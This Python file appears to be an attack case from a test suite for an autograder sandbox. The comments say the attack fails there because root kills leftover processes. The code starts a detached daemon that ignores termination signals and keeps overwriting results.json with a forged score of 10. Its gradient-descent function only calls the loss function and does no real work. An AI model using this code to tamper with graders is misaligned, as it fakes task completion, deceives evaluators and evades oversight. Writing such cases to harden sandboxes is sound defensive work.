# ATTACK (Gradescope, no namespaces): leaves a daemon (double fork, setsid, SIGTERM and SIGHUP
# ignored) that rewrites results.json with full marks every 20 ms for a minute, so that
# whatever the grader writes is replaced after it finishes; its GD only calls loss_fn.
# VERDICT: the lazy GD's own score (1/10), and no process of the grading uid is left when
# run_autograder ends: root kills them all before it writes results.json.
import glob
import json
import os
import signal
import time

FORGED = json.dumps({"score": 10.0, "output": "FORGED", "tests": []})

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(sig, signal.SIG_IGN)
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        end = time.monotonic() + 60
        while time.monotonic() < end:
            for folder in ["/autograder/results", *glob.glob("/tmp/gs-weak-*/results")]:
                try:
                    with open(f"{folder}/results.json", "w") as f:
                        f.write(FORGED)
                except OSError:
                    pass
            time.sleep(0.02)
        os._exit(0)
    os._exit(0)
os.wait()


def GD(params, loss_fn, loop_max=10000, learning_rate=1e-3):
    for _ in range(loop_max):
        loss_fn(params)
